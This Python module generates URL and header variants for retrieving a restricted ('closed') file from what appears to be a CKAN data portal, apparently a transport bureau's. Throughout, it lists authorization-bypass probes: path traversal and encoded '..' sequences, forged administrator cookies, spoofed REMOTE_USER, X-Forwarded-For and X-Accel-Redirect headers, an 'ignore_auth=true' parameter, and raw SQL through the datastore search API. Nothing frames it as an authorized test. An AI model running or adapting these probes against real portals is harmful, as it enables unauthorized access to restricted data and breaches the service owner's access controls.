"""The byte routes of a closed file, written as nobody writes them."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

from .stage import Dataset

Spelling = tuple[str, dict[str, Any]]


def spellings(dataset: Dataset) -> list[Spelling]:
    """Addresses, each with what is sent to it beside a plain GET."""
    return [*_downloads(dataset), *_headed(dataset), *_rows(dataset), *_others(dataset)]


def _downloads(dataset: Dataset) -> list[Spelling]:
    """The address of the download, bent."""
    file, name = dataset.file, dataset.name
    encoded = "".join(f"%{ord(letter):02x}" for letter in file)
    base = f"/dataset/{dataset.name}/resource/{dataset.file}/download"
    return [
        *((prefix + base, {}) for prefix in ("", "/en", "/zh_Hans_CN", "/EN", "//", "/.", "/en/..", "/api/..")),
        *(
            (base + ending, {})
            for ending in ("/", "//", "/.", "/../download", "/f.csv", "/f.csv/", ";x=1", "?x=1", "%00", "%2f")
        ),
        (f"/dataset/{name.upper()}/resource/{file}/download", {}),
        (f"/dataset/{name}/resource/{file.upper()}/download", {}),
        (f"/dataset/{name}/resource/{encoded}/download", {}),
        (f"/dataset/unconditional-{name}/resource/{file}/download", {}),
        (f"/dataset/data-unconditional/resource/{file}/download", {}),
        (f"/dataset/data-unconditional/resource/{file}/download/f.csv", {}),
        (base + "?apikey=x&token=x&auth=x", {}),
        (f"/dataset/{name}/resource/{dataset.link}/download", {}),
    ]


def _headed(dataset: Dataset) -> list[Spelling]:
    """The address of the download, with headers that promise something."""
    base = f"/dataset/{dataset.name}/resource/{dataset.file}/download"
    return [
        (base, {"headers": {"Range": "bytes=0-5000"}}),
        (base, {"headers": {"Range": "bytes=-500", "If-Range": "x"}}),
        (base, {"headers": {"If-None-Match": "*"}}),
        (
            base,
            {"headers": {"X-HTTP-Method-Override": "OPTIONS", "X-Original-URL": "/about", "X-Rewrite-URL": "/about"}},
        ),
        (base, {"headers": {"X-Forwarded-For": "127.0.0.1", "X-Accel-Redirect": "/", "X-Forwarded-Prefix": "/x"}}),
        (base, {"headers": {"Range": "bytes=0-"}}),
        (base, {"headers": {"Range": "bytes=0-0,1-1,2-4000"}}),
        (base, {"headers": {"If-Match": "*", "If-Unmodified-Since": "Wed, 21 Oct 2099 07:28:00 GMT"}}),
        (base, {"headers": {"If-Modified-Since": "Wed, 21 Oct 1999 07:28:00 GMT"}}),
        (base, {"headers": {"X-Sendfile-Type": "X-Accel-Redirect", "X-Accel-Mapping": "/=/"}}),
        (base, {"headers": {"Cookie": "auth_tkt=administrator; ckan=administrator; session=x"}}),
        (
            base,
            {"headers": {"REMOTE_USER": "own-agency", "X-Remote-User": "own-agency", "X-CKAN-API-Key": "own-agency"}},
        ),
    ]


def _rows(dataset: Dataset) -> list[Spelling]:
    """Ways to the rows."""
    file = dataset.file
    return [
        (f"/datastore/dump/{file}?format=json&limit=5&bom=true", {}),
        (f"/datastore/dump/{dataset.alias}", {}),
        (f"/datastore/dump/{quote(dataset.alias)}?format=xml", {}),
        (f"/datastore/dump/{file}/?format=tsv", {}),
        (f"/en/datastore/dump/{file}", {}),
        (f"/api/action/datastore_search?resource_id={file}&records_format=csv", {}),
        (f"/api/3/action/datastore_search?id={file}&resource_id=x", {}),
        (f"/api/3/action/datastore_search?resource_id={file}&callback=x", {}),
        (f"/api/3/action/datastore_search?alias={file}&resource_id={file}&ignore_auth=true", {}),
        (f"/en/api/3/action/datastore_search?resource_id={file}", {}),
        (f"/api/3/action/datastore_search_sql?sql=select%20*%20from%20%22{file}%22", {}),
        (f"/api/3/action/datastore_search_sql?sql=TABLE%20%22{file}%22", {}),
        (
            f"/datatables/ajax/{dataset.view}",
            {"method": "POST", "data": {"draw": "1", "start": "0", "length": "50", "search[value]": ""}},
        ),
        (
            f"/datatables/filtered-download/{dataset.view}",
            {
                "method": "POST",
                "data": {"params": json.dumps({"visibleColumns": ["停车场"], "filters": ""}), "format": "csv"},
            },
        ),
        *((f"/api/{version}/action/datastore_search?resource_id={file}", {}) for version in (1, 2, 3)),
        (f"/datastore/dictionary_download/{file}", {}),
    ]


def _others(dataset: Dataset) -> list[Spelling]:
    """Whatever else has a file, its place or its description."""
    file, name = dataset.file, dataset.name
    place = f"{file[:3]}/{file[3:6]}/{file[6:]}"
    return [
        (f"/%64ataset/{name}/resource/{file}/%64ownload", {}),
        (f"/dataset/{name}/resource/{file}/proxy", {}),
        (f"/dataset/{name}/resource/{dataset.link}/proxy", {}),
        (f"/dataset/{name}/resource/{file}/view/{dataset.view}", {}),
        (f"/file/download/{file}", {}),
        (f"/file/trusted-download/{file}", {}),
        (f"/file/public-download/resources/{place}", {}),
        (f"/file/public-download/resources/{quote(place, safe='')}", {}),
        (f"/uploads/../resources/{place}", {}),
        (f"/resources/{place}", {}),
        (f"/storage/resources/{place}", {}),
        *(
            (f"{folder}/{step}resources/{place}", {})
            for folder in ("/uploads", "/webassets", "/base")
            for step in ("", "../", "%2e%2e/", "..%2f", "..\\")
        ),
        *((f"/api/{version}/rest/dataset/{name}", {}) for version in (1, 2)),
        (f"/api/rest/dataset/{name}", {}),
        (f"/api/2/search/resource?url={dataset.key}&all_fields=1", {}),
        (f"/dataset/{name}/resource/{file}/embed", {}),
        (f"/dataset/data-unconditional/resource/{file}/view/{dataset.view}", {}),
        (f"/dataset/data-unconditional/resource/{file}/proxy", {}),
        (f"/dataset/{name}/dictionary/{file}", {}),
        (f"/dataset/{name}/resource_data/{file}", {}),
        (f"/dataset/{name}.ttl", {}),
        (f"/dataset/{name}.jsonld?profiles=schemaorg", {}),
        (f"/dataset/{name}.xml", {}),
        ("/catalog.ttl", {}),
        (f"/catalog.jsonld?q=name:{name}", {}),
        ("/feeds/dataset.atom", {}),
        ("/feeds/custom.atom?q=停", {}),
        (f"/feeds/organization/jiaotongju.atom?name={name}", {}),
    ]
